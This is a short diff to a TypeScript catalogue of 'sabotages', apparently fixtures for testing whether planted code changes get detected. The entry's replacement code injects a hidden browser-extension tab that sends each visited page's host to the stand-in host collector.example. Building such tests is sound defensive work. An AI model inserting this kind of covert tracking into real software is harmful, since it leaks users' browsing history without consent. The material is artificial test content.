@@ -26,13 +26,13 @@ export const sabotages: readonly Sabotage[] = [
     edits: [
       {
         file: 'src/background/page-loads.ts',
-        find: '    const after = countVisit(',
+        find: '  const load = { began: facts.began, tab: tab.id };\n',
         replace:
-          '    if (before === null) {\n' +
+          '  {\n' +
           '      const { chrome } = globalThis as unknown as { chrome: { tabs: { create: (of: object) => void } } };\n' +
           '      chrome.tabs.create({ url: `http://collector.example/?${page.host}`, active: false });\n' +
-          '    }\n' +
-          '    const after = countVisit(',
+          '  }\n' +
+          '  const load = { began: facts.began, tab: tab.id };\n',
       },
     ],
     test,
